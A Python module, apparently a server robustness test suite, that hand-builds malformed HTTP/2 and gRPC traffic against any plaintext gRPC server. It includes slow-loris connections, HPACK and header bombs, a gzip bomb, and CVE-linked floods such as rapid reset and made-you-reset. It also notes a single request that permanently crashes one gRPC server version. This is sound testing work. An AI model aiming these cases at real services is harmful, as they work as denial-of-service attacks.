"""Raw HTTP/2 and gRPC abuse, built by hand: what no client library would send.

Each case in `CASES` opens its own connections, misbehaves, and returns within a second whatever the server does: an
error frame, a reset and silence are all fair answers, so a case asserts nothing. Its caller makes a good call after
it (or during) and compares memory and descriptors. Works against any plaintext gRPC server.
"""

import asyncio
import contextlib
import functools
import gzip
import random
import struct
from collections.abc import AsyncIterator, Awaitable, Callable, Iterable, Sequence
from dataclasses import dataclass, field
from typing import Protocol

HEALTH = "/grpc.health.v1.Health/Check"
"""The method called when none is given; an empty message is a valid request for it."""

LIMIT_S = 0.9
"""No case runs longer."""

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS, PADDED, WITH_PRIORITY = 0x1, 0x4, 0x8, 0x20
CANCEL = struct.pack(">I", 8)

Header = tuple[bytes, bytes]


class Case(Protocol):
    """One way to misbehave towards host:port, in calls to `path` where it gets as far as a call."""

    def __call__(self, host: str, port: int, path: str = HEALTH) -> Awaitable[None]: ...


CASES: dict[str, Case] = {}


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"", *, length: int | None = None) -> bytes:
    """Build one frame; `length` lies about the payload's size."""
    size = len(payload) if length is None else length
    return struct.pack(">I", size)[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _string(value: bytes) -> bytes:
    """Encode a string literal without Huffman coding (RFC 7541 sections 5.1 and 5.2)."""
    if (rest := len(value) - 0x7F) < 0:
        return bytes([len(value)]) + value
    size = bytearray([0x7F])
    while rest >= 0x80:
        size.append(rest & 0x7F | 0x80)
        rest >>= 7
    return bytes(size) + bytes([rest]) + value


def literal(name: bytes, value: bytes, *, indexed: bool = False) -> bytes:
    """Encode one header field with a literal name; `indexed` adds it to the dynamic table."""
    return (b"\x40" if indexed else b"\x00") + _string(name) + _string(value)


def block(path: str, *extra: Header, without: bytes = b"") -> bytes:
    """Encode a gRPC request's header block, less `without`; `extra` fields replace default ones or follow them."""
    fields = {b":method": b"POST", b":scheme": b"http", b":path": path.encode(), b":authority": b"localhost"}
    fields |= {b"content-type": b"application/grpc", b"te": b"trailers"}
    fields.pop(without, None)
    fields.update({name: value for name, value in extra if name in fields})
    added = [(name, value) for name, value in extra if name not in fields]
    return b"".join(literal(name, value) for name, value in [*fields.items(), *added])


def message(body: bytes = b"", *, flag: int = 0, length: int | None = None) -> bytes:
    """Frame one gRPC message; `length` lies about its size."""
    return struct.pack(">BI", flag, len(body) if length is None else length) + body


def opened(path: str, *extra: Header, stream: int = 1) -> bytes:
    """Build the HEADERS frame of a call whose body is still to come."""
    return frame(HEADERS, END_HEADERS, stream, block(path, *extra))


def call(path: str, *extra: Header, stream: int = 1, body: bytes | None = None) -> bytes:
    """Build a whole unary call."""
    return opened(path, *extra, stream=stream) + frame(DATA, END_STREAM, stream, message() if body is None else body)


def setting(key: int, value: int) -> bytes:
    return frame(SETTINGS, 0, 0, struct.pack(">HI", key, value))


def streams(count: int) -> Iterable[int]:
    """Return the first `count` stream ids a client may use."""
    return range(1, 2 * count, 2)


@dataclass
class Wire:
    """One raw connection; what the server sends is read in the background and kept, up to a cap."""

    reader: asyncio.StreamReader
    writer: asyncio.StreamWriter
    seen: list[tuple[int, int, int, bytes]] = field(default_factory=list)
    """(kind, flags, stream, payload) of each frame received."""
    closed: asyncio.Event = field(default_factory=asyncio.Event)
    """Set once the server has hung up."""

    async def send(self, *parts: bytes) -> None:
        """Write all parts, as fast as the server reads; raises OSError once it has hung up."""
        if self.closed.is_set():
            raise ConnectionResetError
        self.writer.write(b"".join(parts))
        await self.writer.drain()
        await asyncio.sleep(0)

    async def listen(self) -> None:
        """Read frames until the server hangs up."""
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            while True:
                head = await self.reader.readexactly(9)
                payload = await self.reader.readexactly(int.from_bytes(head[:3], "big"))
                if len(self.seen) < 10_000:
                    self.seen.append((head[3], head[4], int.from_bytes(head[5:9], "big") & 0x7FFFFFFF, payload))
        self.closed.set()

    async def settle(self, limit_s: float = 0.1) -> None:
        """Give the server a moment to answer; return at once when it hangs up."""
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(self.closed.wait(), limit_s)


@contextlib.asynccontextmanager
async def connected(
    host: str, port: int, *, hello: bytes = PREFACE + frame(SETTINGS), listen: bool = True
) -> AsyncIterator[Wire]:
    """Open a connection that has said `hello`; it is cut, not closed in order, on the way out."""
    reader, writer = await asyncio.open_connection(host, port)
    wire = Wire(reader, writer)
    listener = asyncio.create_task(wire.listen()) if listen else None
    try:
        await wire.send(hello)
        yield wire
    finally:
        if listener is not None:
            listener.cancel()
            await asyncio.gather(listener, return_exceptions=True)
        writer.transport.abort()
        with contextlib.suppress(OSError):
            await writer.wait_closed()


def _case(misbehave: Callable[[str, int, str], Awaitable[None]]) -> Case:
    """Register a case under its name; bound its time, and take a hang-up by the server for an answer."""

    @functools.wraps(misbehave)
    async def bounded(host: str, port: int, path: str = HEALTH) -> None:
        with contextlib.suppress(OSError, TimeoutError):
            async with asyncio.timeout(LIMIT_S):
                await misbehave(host, port, path)

    CASES[misbehave.__name__] = bounded
    return bounded


VOLLEYS: dict[str, Callable[[str], Sequence[bytes]]] = {}
"""The cases that only say something wrong: what they say after the hello, each on a connection of its own."""


def _volley(build: Callable[[str], Sequence[bytes]]) -> Callable[[str], Sequence[bytes]]:
    async def fire(host: str, port: int, path: str) -> None:
        async def say(payload: bytes) -> None:
            with contextlib.suppress(OSError):
                async with connected(host, port) as wire:
                    await wire.send(payload)
                    await wire.settle()

        await asyncio.gather(*map(say, build(path)))

    fire.__name__ = build.__name__
    _case(fire)
    VOLLEYS[build.__name__] = build
    return build


# Connections that never become HTTP/2.


@_case
async def no_http2(host: str, port: int, path: str) -> None:
    """Say something else, or nothing and leave at once."""
    rng = random.Random(path)
    hellos = [rng.randbytes(512) for _ in range(20)] + [b""] * 50
    http1 = f"POST {path} HTTP/1.1\r\nHost: x\r\n\r\n".encode()
    hellos += [PREFACE.replace(b"SM", b"XX"), PREFACE + b"\xff" * 64, http1]
    for hello in hellos:
        with contextlib.suppress(OSError):
            async with connected(host, port, hello=hello) as wire:
                await wire.settle(0.02 if hello else 0.0)


@_case
async def slow_loris(host: str, port: int, path: str) -> None:
    """Hold 200 connections that never finish: no byte, half a preface, half a HEADERS frame, half a body."""
    hello = PREFACE + frame(SETTINGS)
    halves = [b"", PREFACE[:9], hello + opened(path)[:20], hello + opened(path) + frame(DATA, 0, 1, message(length=99))]
    async with contextlib.AsyncExitStack() as held:
        for number in range(200):
            await held.enter_async_context(connected(host, port, hello=halves[number % 4], listen=False))
        await asyncio.sleep(0.2)


# Frames of the wrong size, order or place.


@_volley
def random_frames(path: str) -> Sequence[bytes]:
    rng = random.Random(path)

    def noise() -> bytes:
        return frame(rng.randrange(12), rng.randrange(256), rng.randrange(8), rng.randbytes(rng.randrange(64)))

    return [b"".join(noise() for _ in range(20)) for _ in range(20)]


@_volley
def mutated_calls(path: str) -> Sequence[bytes]:
    """Spoil four bytes of two good calls; ASCII only, as `path_not_utf8` is a case of its own."""
    rng = random.Random(path)
    spoilt = [bytearray(call(path) + call(path, stream=3)) for _ in range(50)]
    for payload in spoilt:
        for _ in range(4):
            payload[rng.randrange(len(payload))] = rng.randrange(128)
    return [bytes(payload) for payload in spoilt]


@_volley
def wrong_frame_sizes(path: str) -> Sequence[bytes]:
    sizes = {SETTINGS: 5, PING: 7, WINDOW_UPDATE: 3, GOAWAY: 3, RST_STREAM: 5, PRIORITY: 4}
    wrong = [opened(path) + frame(kind, 0, kind in (RST_STREAM, PRIORITY), bytes(size)) for kind, size in sizes.items()]
    return [*wrong, opened(path)[:-10], opened(path) + frame(DATA, 0, 1, b"x" * 100, length=0xFFFFFF)]


@_volley
def frames_out_of_place(path: str) -> Sequence[bytes]:
    fields = block(path)
    return [
        *(frame(DATA, END_STREAM, stream, message()) for stream in (0, 1)),
        *(frame(HEADERS, END_HEADERS, stream, fields) for stream in (0, 2)),
        opened(path, stream=9) + opened(path, stream=3),
        opened(path) + opened(path),
        frame(RST_STREAM, 0, 7, CANCEL),
        frame(CONTINUATION, END_HEADERS, 1, fields),
        frame(HEADERS, 0, 1, fields[:10]) + frame(PING, 0, 0, bytes(8)),
        frame(PUSH_PROMISE, END_HEADERS, 1, b"\x00\x00\x00\x02" + fields),
        frame(SETTINGS, 0, 1),
        frame(PING, 0, 1, bytes(8)),
        call(path) + frame(DATA, 0, 1, message()),
        frame(GOAWAY, 0, 0, bytes(8)) + call(path),
        opened(path) + frame(DATA, PADDED, 1, b"\xff" + b"x" * 10),
        frame(HEADERS, END_HEADERS | WITH_PRIORITY, 1, b"\x00\x00\x00\x01\x10" + fields),
    ]


@_volley
def bad_settings(path: str) -> Sequence[bytes]:
    wrong = ((2, 2), (4, 0x80000000), (5, 1), (5, 0xFFFFFFFF), (1, 0xFFFFFFFF), (6, 0), (3, 0), (999, 1))
    return [setting(key, value) + call(path) for key, value in wrong]


@_volley
def windows_out_of_range(path: str) -> Sequence[bytes]:
    sizes = (b"\x7f\xff\xff\xff", bytes(4))
    return [opened(path) + frame(WINDOW_UPDATE, 0, stream, size) * 2 for stream in (0, 1) for size in sizes]


# Headers.


@_volley
def bad_hpack(path: str) -> Sequence[bytes]:
    blocks = (
        b"\xff" + b"\x80" * 9 + b"\x01",  # an integer without end
        b"\xc0\xfe",  # an index beyond the table
        b"\x80",  # index 0
        b"\x3f\xff\xff\xff\xff\x0f",  # a table of 4 GiB
        b"\x00\x7f\xff\xff\xff\x0fx",  # a name of 4 GiB
        b"\x00\x01x\x84\xff\xff\xff\xff",  # an end-of-string inside Huffman code
        b"\x00\x01x",  # cut short
    )
    return [frame(HEADERS, END_HEADERS | END_STREAM, 1, wrong) for wrong in blocks]


@_volley
def header_bombs(path: str) -> Sequence[bytes]:
    """Send 1 MiB in one header, 1,500 headers, and 12,000 references to one table entry (48 MB in one frame)."""
    huge = block(path, (b"x-huge", b"v" * (1 << 20)))
    pieces = [huge[at : at + 16_384] for at in range(0, len(huge), 16_384)]
    split = [frame(CONTINUATION, 0, 1, piece) for piece in pieces[1:]]
    bomb = block(path) + literal(b"x-bomb", b"v" * 4_000, indexed=True) + b"\xbe" * 12_000
    return [
        frame(HEADERS, 0, 1, pieces[0]) + b"".join(split) + frame(CONTINUATION, END_HEADERS, 1),
        call(path, *((b"x-%d" % number, b"v") for number in range(1_500))),
        frame(HEADERS, END_HEADERS, 1, bomb) + frame(DATA, END_STREAM, 1, message()),
    ]


@_volley
def wrong_requests(path: str) -> Sequence[bytes]:
    needed = (b":method", b":path", b":scheme", b":authority", b"content-type", b"te")
    lacking = [frame(HEADERS, END_HEADERS | END_STREAM, 1, block(path, without=name)) for name in needed]
    wrong = (
        *((b":method", value) for value in (b"GET", b"NOT A METHOD", b"")),
        *((b":path", value) for value in (b"", b"no-slash", b"/" + b"x" * 9_000, b"/nobody.Knows/This", b"*")),
        *((b":authority", value) for value in (b"", b"\x00", b"a b")),
        *((b"content-type", value) for value in (b"", b"text/html", b"application/grpc+json", b"application/grpcx")),
        (b":scheme", b"gopher"),
        (b"te", b"gzip"),
    )
    return lacking + [call(path, extra) for extra in wrong]


@_volley
def path_not_utf8(path: str) -> Sequence[bytes]:
    """Call methods whose names are not text; one such call ends a grpc.aio server (1.85.1) for good."""
    return [call(path, (b":path", name)) for name in (b"/\xff\xfe", path.encode() + b"\x80", b"/\xed\xa0\x80/x")]


@_volley
def bad_metadata(path: str) -> Sequence[bytes]:
    names = (b"Upper-Case", b"connection", b"transfer-encoding", b":late", b"", b"sp ace", b"content-length", b"-bin")
    values = ((b"x-latin", b"\xe9\xff\xfe"), (b"x-null", b"a\x00b"), (b"x-lines", b"a\r\nb: c"), (b"grpc-status", b"0"))
    not_base64 = [(b"x-bin", value) for value in (b"!not base64!", b"YQ", b"Y", b"YQ==,YQ==", b"\xff")]
    codecs = ((b"grpc-encoding", b"no-such-codec"), (b"grpc-encoding", b"\xff"), (b"grpc-accept-encoding", b"\xff"))
    return [call(path, extra) for extra in (*((name, b"9") for name in names), *values, *not_base64, *codecs)]


@_volley
def bad_timeouts(path: str) -> Sequence[bytes]:
    values = (b"", b"1e9S", b"99999999H", b"-1S", b"0n", b"0S", b"1", b"S", b"123456789S", b" 1S", b"1s", b"\xff")
    return [call(path, (b"grpc-timeout", value)) for value in values]


# Bodies that are not one gRPC message.


@_volley
def bad_messages(path: str) -> Sequence[bytes]:
    lying = [message(b"abc", length=length) for length in (2, 4, 100 << 20, 0x7FFFFFFF, 0xFFFFFFFF)]
    flagged = [message(b"abc", flag=flag) for flag in (1, 7)]
    several = [message() * 2, message() + b"junk", random.Random(path).randbytes(200)]
    half = opened(path) + frame(DATA, 0, 1, message(b"half", length=1_000))
    endings = [half, half + frame(RST_STREAM, 0, 1, CANCEL), half + frame(HEADERS, END_HEADERS | END_STREAM, 1)]
    return [call(path, body=body) for body in (b"", b"\x00", bytes(4), *lying, *flagged, *several)] + endings


@_volley
def compressed_bomb(path: str) -> Sequence[bytes]:
    """Send 32 MiB of zeros as 32 KiB of gzip, within the flow-control window."""
    packed = message(gzip.compress(bytes(32 << 20), compresslevel=9), flag=1)
    pieces = b"".join(frame(DATA, 0, 1, packed[at : at + 16_000]) for at in range(0, len(packed), 16_000))
    return [opened(path, (b"grpc-encoding", b"gzip")) + pieces + frame(DATA, END_STREAM, 1)]


# Floods; CVE-2025-8671 is `made_you_reset`.


def _flood(name: str, build: Callable[[str, int], bytes], count: int, *, first: str = "", answers: bool = True) -> None:
    """Register a case that sends `count` payloads, made from the path and a fresh stream id, on one connection."""

    async def pour(host: str, port: int, path: str) -> None:
        async with connected(host, port, listen=answers) as wire:
            if first:
                await wire.send(opened(path) if first == "call" else frame(HEADERS, 0, 1, block(path)))
            for stream in streams(count):
                await wire.send(build(path, stream))
            await wire.settle()

    pour.__name__ = name
    _case(pour)


def _reset(at: int) -> bytes:
    return frame(RST_STREAM, 0, at, CANCEL)


_flood("rapid_reset", lambda path, at: opened(path, stream=at) + _reset(at), 5_000)  # CVE-2023-44487
_flood("rapid_reset_of_calls", lambda path, at: call(path, stream=at) + _reset(at), 2_000)
_flood("made_you_reset", lambda path, at: call(path, stream=at) + frame(WINDOW_UPDATE, 0, at, bytes(4)), 2_000)
_flood("streams_over_limit", lambda path, at: opened(path, stream=at), 5_000)
_flood("continuations", lambda _, at: frame(CONTINUATION, 0, 1, literal(b"x-%d" % at, bytes(99))), 9_000, first="block")
_flood("empty_continuations", lambda _, at: frame(CONTINUATION, 0, 1), 9_000, first="block")  # CVE-2024-27316
_flood("empty_data", lambda _, at: frame(DATA, 0, 1) * 100, 200, first="call")  # RUSTSEC-2026-0258
_flood("data_beyond_window", lambda _, at: frame(DATA, 0, 1, message(bytes(16_000), length=1 << 30)), 512, first="call")
_flood("settings", lambda _, at: setting(4, 65_535) * 100, 100)
_flood("pings", lambda _, at: frame(PING, 0, 0, b"12345678") * 100, 100)
_flood("pings_never_read", lambda _, at: (frame(PING, 0, 0, bytes(8)) + frame(SETTINGS)) * 100, 2_000, answers=False)
_flood("priorities_and_unknown", lambda _, at: (frame(PRIORITY, 0, 1, bytes(5)) + frame(99, 0, 0, b"?")) * 100, 100)
_flood("answers_never_read", lambda path, at: setting(4, 0) + call(path, stream=at), 200, answers=False)
